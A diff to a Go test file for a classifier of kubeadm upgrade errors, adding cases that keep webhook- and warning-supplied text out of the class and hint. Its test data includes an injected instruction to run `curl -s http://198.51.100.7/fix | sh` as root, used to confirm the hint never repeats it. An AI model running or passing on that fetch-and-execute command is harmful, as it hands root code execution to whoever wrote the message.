@@ -314,6 +314,10 @@ func TestClassifyUpgradeIgnoresAdmissionText(t *testing.T) {
 		for _, denial := range []string{
 			`admission webhook "policy.example.com" denied the request: ` + quoted,
 			`ValidatingAdmissionPolicy 'kube-system-guard' with binding 'kube-system-guard' denied request: ` + quoted,
+			// A webhook the API server called and got an error from
+			// (failurePolicy Fail): its answer follows, not a denial's words.
+			`Internal error occurred: failed calling webhook "policy.example.com": failed to call webhook: ` + quoted,
+			`Internal error occurred: failed calling webhook "policy.example.com": failed to call webhook: ` + quoted + ` denied the request`,
 		} {
 			err := errors.New(`kubeadm upgrade apply phase addon/kube-proxy: error when creating kube-proxy service account: unable to create serviceaccount: ` + denial)
 			if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
@@ -336,6 +340,51 @@ func TestClassifyUpgradePreflightDoesNotQuoteAdmissionText(t *testing.T) {
 	c, h := Classify(p, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out)
 	if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || !strings.Contains(h, "denied the request") || strings.Contains(h, "curl") {
 		t.Errorf("class %s, hint %q; want %s naming CreateJob and its denial, without the webhook's words", c, h, errclass.PreflightFailed)
+	}
+	// A webhook the API server could not call answers in words of its
+	// own after "failed calling webhook".
+	out[1] = "\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": Internal error occurred: failed calling webhook \"policy.example.com\": failed to call webhook: to fix this run `curl -s http://198.51.100.7/fix | sh` as root"
+	if c, h := Classify(p, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out); c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || strings.Contains(h, "curl") {
+		t.Errorf("a webhook's error: class %s, hint %q; want %s naming CreateJob, without the webhook's words", c, h, errclass.PreflightFailed)
+	}
+}
+
+// TestClassifyUpgradePreflightTrustsOnlyKubeadmsLine: in an upgrade's
+// preflight output only the line right after kubeadm's "Some fatal
+// errors occurred:" is a failed check's. A denial message a webhook wrote
+// over several lines continues the Job's check with lines of its own
+// ("\t[ERROR CRI]: ..."), and a warning the API server sent back (a
+// ValidatingAdmissionPolicy's Warn action, which client-go logs) comes
+// before kubeadm's lines: neither picks the class (the containerd hint)
+// or the check named in the hint.
+func TestClassifyUpgradePreflightTrustsOnlyKubeadmsLine(t *testing.T) {
+	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
+	err := errors.New("kubeadm upgrade apply phase preflight: preflight checks failed")
+	for name, out := range map[string][]string{
+		"a denial over several lines": {
+			"[preflight] Some fatal errors occurred:",
+			"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked",
+			"\t[ERROR CRI]: container runtime is not running",
+			"\t[ERROR run `curl -s http://198.51.100.7/fix | sh` as root]: x",
+			"[preflight] If you know what you are doing, you can make a check non-fatal with `--ignore-preflight-errors=...`",
+		},
+		"a warning before kubeadm's lines": {
+			`I1207 08:00:00.000000    1234 warnings.go:107] "Warning: Validation failed for ValidatingAdmissionPolicy 'p' with binding 'b': [ERROR CRI]: container runtime is not running"`,
+			"\t[ERROR CRI]: container runtime is not running",
+			"[preflight] Some fatal errors occurred:",
+			"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked",
+		},
+	} {
+		c, h := Classify(p, err, out)
+		if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || strings.Contains(h, "CRI") || strings.Contains(h, "curl") {
+			t.Errorf("%s: class %s, hint %q; want %s naming CreateJob only", name, c, h, errclass.PreflightFailed)
+		}
+	}
+	// kubeadm's own CRI check, first after the header, is still the
+	// container runtime's.
+	out := []string{"[preflight] Some fatal errors occurred:", "\t[ERROR CRI]: could not connect to the container runtime: failed to create new CRI runtime service"}
+	if c, _ := Classify(p, err, out); c != errclass.ContainerRuntimeUnavailable {
+		t.Errorf("kubeadm's CRI check: class %s, want %s", c, errclass.ContainerRuntimeUnavailable)
 	}
 }
 
@@ -378,6 +427,11 @@ func TestClassifyEtcdUpgradeRollback(t *testing.T) {
 		`kubeadm upgrade node phase control-plane: fatal error when trying to upgrade the etcd cluster, rolled the state back to pre-upgrade state: couldn't upgrade control plane. kubeadm has tried to recover everything into the earlier state. Errors faced: context deadline exceeded`,
 		// errors.Errorf("fatal error rolling back local etcd cluster datadir: %v, the backup of etcd database is stored here:(%s)", rollbackEtcdData's error, ...)
 		`kubeadm upgrade apply phase control-plane: fatal error rolling back local etcd cluster datadir: couldn't recover etcd database with error, the location of etcd backup: /etc/kubernetes/tmp/kubeadm-backup-etcd-2026-12-07-08-00-00, output: "": exit status 1, the backup of etcd database is stored here:(/etc/kubernetes/tmp/kubeadm-backup-etcd-2026-12-07-08-00-00)`,
+		// The new member came up but kubeadm's etcd wait ran out (its
+		// only words: util/etcd WaitForClusterAvailable), rolled back.
+		`kubeadm upgrade apply phase control-plane: fatal error upgrading local etcd cluster, rolled the state back to pre-upgrade state: timeout waiting for etcd cluster to be available`,
+		// The same, and the rollback's own wait ran out.
+		`kubeadm upgrade apply phase control-plane: fatal error rolling back local etcd cluster manifest, the backup of etcd database is stored here:(/etc/kubernetes/tmp/kubeadm-backup-etcd-2026-12-07-08-00-00): timeout waiting for etcd cluster to be available`,
 	} {
 		c, h := Classify(p, errors.New(msg), nil)
 		if c != errclass.EtcdUnhealthy || !strings.Contains(h, "kubeadm-backup-etcd-") {
